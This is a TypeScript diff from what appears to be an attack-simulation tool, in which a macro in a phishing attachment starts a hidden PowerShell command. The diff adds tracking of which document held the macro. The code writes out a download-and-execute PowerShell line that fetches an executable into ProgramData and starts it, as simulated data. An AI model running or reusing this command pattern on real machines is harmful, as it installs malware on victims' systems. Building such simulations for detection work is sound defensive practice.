@@ -74,13 +74,15 @@ const attachmentOf = (lure: Lure): Attachment => {
 }
 
 /** A command that fetches a program and runs it; the shell writes the file. */
-function load(session: Session, parent: Process, lure: Lure, at: number): Process {
+function load(session: Session, parent: Process, lure: Lure, at: number, macroOf?: string): Process {
   const path = `C:\\ProgramData\\${session.world.random.hex(6)}.exe`
   const command = `"${POWERSHELL}" -nop -w hidden -c "Invoke-WebRequest -Uri ${lure.loaderUrl} -OutFile ${path}; Start-Process ${path}"`
   const { machine, who } = session
   const shell = machine.start(parent, POWERSHELL, command, who, at)
   machine.connect(shell, new URL(lure.loaderUrl).hostname, 80, at + SECOND)
   machine.write(shell, path, at + 2 * SECOND, { sha256: lure.payload.sha256 })
+  // Word held one document when it started a shell: the macro is in that.
+  if (macroOf !== undefined) machine.sayExecuted(macroOf, shell, true)
   machine.sayOrderedDownload(shell, lure.loaderUrl, path)
   return machine.start(shell, path, `"${path}"`, who, at + 4 * SECOND, { sha256: lure.payload.sha256 })
 }
@@ -88,7 +90,7 @@ function load(session: Session, parent: Process, lure: Lure, at: number): Proces
 function macro(session: Session, lure: Lure, at: number): Process {
   const path = session.saveAttachment(attachmentOf(lure), at, isHashed(session))
   const word = session.openDocument(path, at + 3 * SECOND)
-  return load(session, word, lure, at + 40 * SECOND)
+  return load(session, word, lure, at + 40 * SECOND, path)
 }
 
 /** Explorer opens the script inside the compressed folder. */
